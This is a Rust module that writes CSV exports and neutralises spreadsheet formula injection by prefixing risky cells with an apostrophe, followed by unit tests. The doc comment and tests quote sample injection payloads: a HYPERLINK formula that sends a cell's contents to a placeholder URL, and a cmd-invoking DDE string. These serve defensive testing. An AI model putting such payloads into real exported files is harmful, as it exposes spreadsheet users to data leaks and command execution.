//! Every CSV the tool writes (`export --format csv`, `diff --format csv`),
//! written one way: quoted as RFC 4180 says (the `csv` crate does that), and
//! with the cells a spreadsheet would run as a formula neutralised, as
//! OWASP's "CSV Injection" page recommends.
//!
//! Cells hold text from the documents (a `(*)` note, a heading), and
//! analysts open these files in spreadsheets. Excel, LibreOffice Calc and
//! Google Sheets read a cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return as a formula: a note `=HYPERLINK("http://…"&B2, "voir")`
//! becomes a link that sends the cell B2 away. Such a cell gets a leading
//! apostrophe (`'=HYPERLINK(…)`), which a spreadsheet takes as "text" and
//! does not show ([`neutralise`]). Also guarded, as OWASP's list now has
//! them: a line feed and the full-width `＝ ＋ － ＠` read as formulas in
//! some locales.
//!
//! OWASP warns that a field separator inside a cell can start a new cell.
//! A `,` or a `"` is quoted by the CSV rules; a `;` is not, yet Excel set to
//! the `;` list separator (Belgian and French settings) splits a line at
//! every `;`, quotes or not. So the text after each `;` in a cell is guarded
//! like the start of a cell (`a;=1+1` → `a;'=1+1`).
//!
//! Numbers are left alone: `-1.25` (a `-`, digits, at most one decimal
//! point and digits) is a number, not a formula.
//!
//! [`Formulas::Raw`] (`--csv-raw`) writes every cell exactly as stored, for
//! programs that read the CSV and would otherwise see the apostrophes.

use std::borrow::Cow;
use std::io::Write;

use crate::error::Error;

/// How cells that a spreadsheet would read as formulas are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Formulas {
    /// With a leading apostrophe (see the [module docs](self)).
    #[default]
    Neutralised,
    /// Exactly as stored (`--csv-raw`).
    Raw,
}

impl Formulas {
    /// `Raw` when `--csv-raw` was given, else `Neutralised`.
    pub fn raw_if(raw: bool) -> Formulas {
        if raw {
            Formulas::Raw
        } else {
            Formulas::Neutralised
        }
    }
}

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF20}',
];
/// Full-width hyphen-minus: a formula start too, never a number's sign.
const FULL_WIDTH_MINUS: char = '\u{FF0D}';

/// A cell as a spreadsheet should see it: text that would start a formula
/// (at the start of the cell, or after a `;`) gets a leading apostrophe.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if !cell.split(';').any(starts_a_formula) {
        return Cow::Borrowed(cell);
    }
    let parts: Vec<Cow<str>> = cell
        .split(';')
        .map(|part| {
            if starts_a_formula(part) {
                Cow::Owned(format!("'{part}"))
            } else {
                Cow::Borrowed(part)
            }
        })
        .collect();
    Cow::Owned(parts.join(";"))
}

/// Whether a spreadsheet reads `text`, at the start of a cell, as a formula.
fn starts_a_formula(text: &str) -> bool {
    let Some(first) = text.chars().next() else {
        return false;
    };
    if first == '-' && is_unsigned_decimal(&text[1..]) {
        return false;
    }
    FORMULA_START.contains(&first) || first == FULL_WIDTH_MINUS
}

/// `1.25`, `3`: digits, then at most one `.` followed by digits.
fn is_unsigned_decimal(text: &str) -> bool {
    let (whole, fraction) = text.split_once('.').unwrap_or((text, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// A CSV writer that applies [`neutralise`] (or not) to every cell.
pub struct CsvWriter<W: Write> {
    csv: csv::Writer<W>,
    formulas: Formulas,
}

impl<W: Write> CsvWriter<W> {
    /// A writer to `out`.
    pub fn new(out: W, formulas: Formulas) -> CsvWriter<W> {
        CsvWriter {
            csv: csv::Writer::from_writer(out),
            formulas,
        }
    }

    /// Writes one record.
    pub fn record<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> Result<(), Error> {
        let fail = |e: csv::Error| Error::Usage(format!("cannot write the CSV: {e}"));
        for cell in cells {
            let cell = match self.formulas {
                Formulas::Neutralised => neutralise(cell),
                Formulas::Raw => Cow::Borrowed(cell),
            };
            self.csv.write_field(cell.as_bytes()).map_err(fail)?;
        }
        // No more fields: ends the record.
        self.csv.write_record(None::<&[u8]>).map_err(fail)
    }

    /// Flushes what is buffered and gives the output back.
    pub fn finish(self) -> Result<W, Error> {
        self.csv
            .into_inner()
            .map_err(|e| Error::Usage(format!("cannot write the CSV: {}", e.error())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_an_apostrophe() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x\"&B2)",
                "'=HYPERLINK(\"http://x\"&B2)",
            ),
            ("+1+1", "'+1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
            ("-", "'-"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\n=1", "'\n=1"),
            ("＝1+1", "'＝1+1"),
            ("－1", "'－1"),
            ("note; =1", "note; =1"),
            ("note;=1+1;@x", "note;'=1+1;'@x"),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_text_stay_as_they_are() {
        for cell in [
            "-1.25",
            "-3",
            "25.60",
            "",
            "560011",
            "se référer à l'article 4, § 1er",
            "sources/physiotherapy/2024-01-01-tariff.fr.txt:26 @6f9649670a",
            "derived: 0.927692 × 24 = 22.26",
            "a;-0.5",
        ] {
            assert!(matches!(neutralise(cell), Cow::Borrowed(_)), "{cell:?}");
        }
        for not_a_number in ["-1.", "-.5", "-1.2.3", "-1e5", "--1"] {
            assert!(neutralise(not_a_number).starts_with('\''), "{not_a_number}");
        }
    }

    #[test]
    fn raw_writes_cells_as_they_are() {
        let mut w = CsvWriter::new(Vec::new(), Formulas::Raw);
        w.record(["=1+1", "-2"]).unwrap();
        assert_eq!(w.finish().unwrap(), b"=1+1,-2\n");
        let mut w = CsvWriter::new(Vec::new(), Formulas::Neutralised);
        w.record(["=1+1", "-2"]).unwrap();
        assert_eq!(w.finish().unwrap(), b"'=1+1,-2\n");
    }
}
